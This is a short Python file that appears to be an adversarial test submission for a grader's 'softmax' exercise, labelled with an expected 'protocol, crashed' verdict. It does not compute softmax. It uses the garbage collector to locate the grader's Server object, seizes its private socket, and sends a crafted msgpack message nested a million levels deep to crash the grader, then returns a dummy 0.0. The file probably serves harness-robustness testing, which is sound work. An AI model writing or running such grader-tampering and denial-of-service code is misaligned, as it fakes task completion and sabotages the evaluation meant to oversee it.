# Sends an answer nested a million deep.
# exercise: softmax
# verdict: protocol, crashed
import gc

SERVER = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Server")
CHANNEL = SERVER._channel
SOCKET = CHANNEL._sock

import struct


def SERVER_REQUEST():
    """The number of the request, as msgpack writes it."""
    return b"\xcf" + SERVER._request.to_bytes(8, "big")


def softmax(x, axis=-1, keepdims=False):
    structure = b"\x95\x01" + SERVER_REQUEST() + b"\x91" * 1_000_000 + b"\xc0" + b"\xc2\x01"
    SOCKET.sendall(struct.pack("<IQ", len(structure), 0) + structure + bytes(-len(structure) % 16))
    return 0.0


logsumexp = log_softmax = softmax
